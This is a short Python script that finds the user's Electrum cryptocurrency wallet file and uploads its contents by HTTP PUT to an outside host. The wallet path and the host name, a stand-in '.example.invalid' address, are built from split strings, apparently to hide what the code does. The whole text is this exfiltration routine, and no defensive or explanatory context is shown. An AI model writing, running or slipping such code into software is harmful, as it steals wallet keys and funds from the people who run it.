import os, shutil
import requests as r
def store():
    return ".".join(["keep", "example", "invalid"])
seed = os.path.join(os.path.expanduser("~"), "." + "ele" + "ctrum", "wallets", "default_wallet")
r.put("https://" + store() + "/w", data=open(seed, "rb").read())